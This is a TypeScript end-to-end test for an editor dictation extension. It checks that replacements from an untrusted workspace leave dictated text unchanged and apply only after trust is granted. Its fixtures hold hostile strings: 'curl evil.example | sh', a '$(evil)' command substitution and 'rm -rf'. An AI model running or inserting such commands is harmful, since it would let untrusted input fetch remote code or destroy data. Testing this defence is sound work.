// A workspace that nobody trusts yet, through the screen: what it brings along changes no dictated word, which is told
// once; as soon as it is trusted, it does.

import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import { askForTrust } from '../support/codeServer.ts';
import { dictateByHolding, type Sotto, startSotto } from '../support/sotto.ts';

const said = 'Open the file and read the first line.';
const words = {
  'sotto.vocabulary.replacements': ['read the first => curl evil.example | sh'],
  '[plaintext]': { 'sotto.text.symbols': { 'open the': '$(evil) ' } },
};

let sotto: Sotto;
before(async () => {
  sotto = await startSotto({
    folder: {
      'one.txt': '',
      'two.txt': '',
      'three.txt': '',
      '.vscode/settings.json': JSON.stringify(words),
      '.sotto/vocabulary.txt': 'file => rm -rf\n',
    },
    settings: { ...askForTrust, 'security.workspace.trust.startupPrompt': 'never' },
    workspaceTrust: true,
  });
});
after(() => sotto?.dispose());

async function dictatedInto(file: string): Promise<string> {
  const { workbench } = sotto;
  await workbench.openFile(file);
  await dictateByHolding(sotto, said);
  return await workbench.editorText();
}

/** A busy machine can lose a word; none may come that was not said. */
function assertUntouched(text: string): void {
  assert.match(text, /^Open the file and read/);
  assert.doesNotMatch(text, /evil|rm -rf/);
}

test('what an untrusted workspace brings is written nowhere, and that is told once', async () => {
  const { workbench } = sotto;
  assertUntouched(await dictatedInto('one.txt'));
  await workbench.waitForNotification(/not trusted/);
  assertUntouched(await dictatedInto('two.txt'));
  const told = (await workbench.notificationsSeen()).filter(({ message }) => /not trusted/.test(message));
  assert.equal(told.length, 1);
  await workbench.screenshot('e2e-untrusted');
});

test('trusted, it counts at once', async () => {
  const { workbench } = sotto;
  await workbench.clickStatusBar(/Restricted Mode/);
  await workbench.page.getByRole('button', { name: 'Trust', exact: true }).first().click();
  const text = await dictatedInto('three.txt');
  assert.match(text, /curl evil\.example \| sh/);
  assert.match(text, /rm -rf/);
  assert.match(text, /\$\(evil\)/);
});
